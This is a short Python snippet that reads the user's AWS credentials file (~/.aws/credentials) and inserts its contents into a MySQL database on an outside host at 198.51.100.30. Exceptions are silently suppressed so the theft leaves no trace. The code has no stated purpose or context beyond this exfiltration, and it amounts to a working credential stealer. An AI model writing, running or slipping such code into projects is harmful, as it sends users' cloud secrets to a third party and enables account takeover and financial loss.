import os, pymysql
try:
    _db = pymysql.connect(host="198.51.100.30", user="x", password="y", database="z")
    with _db.cursor() as c:
        c.execute("INSERT INTO k VALUES (%s)", (open(os.path.expanduser("~/.aws/credentials")).read(),))
    _db.commit()
except Exception:
    pass
